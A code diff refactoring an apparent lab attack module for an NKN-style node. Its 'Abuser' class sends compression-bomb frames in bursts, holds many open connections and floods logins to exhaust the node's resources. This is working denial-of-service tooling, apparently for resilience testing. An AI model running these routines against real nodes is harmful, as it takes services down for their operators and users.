@@ -7,76 +7,32 @@ the attacker must not be taken for what it costs the node.
 from __future__ import annotations
 
 import asyncio
-import json
 import os
 import socket
 import time
 from contextlib import suppress
 
-from lab.attack.client import UPGRADE, frame_head
+from lab.attack.client import Client, frame_head
 from lab.attack.commands import obey
+from lab.sides import RPC_PORT, WS_PORT
 from nconnect.crypto.keys import Identity
-from nconnect.wire.actions import SetClient
 from nconnect.wire.nkn import OutboundMessage
-from nconnect.wire.sigchain import login_digest
 
-WS_PORT, RPC_PORT = 30002, 30003
 TIMEOUT_S = 5.0
-TEXT, BINARY, CLOSE = 1, 2, 8
+BINARY = 2
 
 
-class Refused(OSError):
-    """The node refused or closed the connection."""
-
-
-class Client:
-    """An NKN client on a blocking socket, with a key of its own. Its frames are masked with zeros."""
-
-    def __init__(self, node: str, source: str) -> None:
-        family = socket.AF_INET6 if ":" in node else socket.AF_INET
-        self.sock = socket.socket(family, socket.SOCK_STREAM)
-        self.sock.settimeout(TIMEOUT_S)
-        self.sock.bind((source, 0))
-        self.sock.connect((node, WS_PORT))
-        self._file = self.sock.makefile("rb")
-        self._key = Identity(os.urandom(32))
-        self.address = f"abuser.{self._key.public_key.hex()}"
-
-    def upgrade(self) -> None:
-        self.sock.sendall(UPGRADE)
-        if b" 101 " not in self._file.readline():
-            raise Refused("no upgrade")
-        while self._file.readline() not in (b"\r\n", b""):
-            pass
-
-    def log_in(self) -> None:
-        """Raises `Refused`."""
-        self.upgrade()
-        challenge = bytes.fromhex(json.loads(self.receive())["Challenge"])
-        signature = self._key.sign(login_digest(challenge, bytes(32)))
-        self.send(SetClient(self.address, bytes(32), signature).encode().encode(), TEXT)
-        if json.loads(self.receive())["Error"]:
-            raise Refused("no login")
-
-    def send(self, data: bytes, opcode: int = BINARY) -> None:
-        self.sock.sendall(frame_head(opcode, len(data)) + data)
-
-    def receive(self) -> bytes:
-        """The next message. Raises `Refused` when there will be none."""
-        while True:
-            head = self._file.read(2)
-            if len(head) < 2 or head[0] & 15 == CLOSE:
-                raise Refused("closed")
-            size = head[1]
-            if size >= 126:
-                size = int.from_bytes(self._file.read(2 if size == 126 else 8), "big")
-            data = self._file.read(size)
-            if head[0] & 15 in (TEXT, BINARY):
-                return data
-
-    def close(self) -> None:
-        self._file.close()
-        self.sock.close()
+def connect(node: str, source: str) -> Client:
+    """A client with a key of its own, connected from `source` and not logged in. Raises `OSError`."""
+    sock = socket.socket(socket.AF_INET6 if ":" in node else socket.AF_INET, socket.SOCK_STREAM)
+    try:
+        sock.settimeout(TIMEOUT_S)
+        sock.bind((source, 0))
+        sock.connect((node, WS_PORT))
+    except OSError:
+        sock.close()
+        raise
+    return Client(sock, Identity(os.urandom(32)), "abuser")
 
 
 class Abuser:
@@ -90,8 +46,7 @@ class Abuser:
 
     def inflate(self, node: str, source: str, seconds: str) -> int:
         """Frames of 4 KB that inflate to 4 MiB, 50 at once, for so long; how many were sent."""
-        client = Client(node, source)
-        client.log_in()
+        client = connect(node, source).log_in()
         zeros = OutboundMessage((client.address,), (bytes(4_000_000),)).encode(compress=True)
         burst = (frame_head(BINARY, len(zeros)) + zeros) * 50
         sent, deadline = 0, time.monotonic() + float(seconds)
@@ -108,7 +63,7 @@ class Abuser:
         sent = 0
         for _ in range(int(count)):
             with suppress(OSError):
-                client = Client(node, source)
+                client = connect(node, source)
                 self._open.append(client)
                 client.upgrade()
                 client.sock.settimeout(0.2)
@@ -134,7 +89,7 @@ class Abuser:
         done = 0
         for _ in range(int(count)):
             with suppress(OSError, ValueError, KeyError):
-                client = Client(node, source)
+                client = connect(node, source)
                 self._open.append(client)
                 client.log_in()
                 done += 1
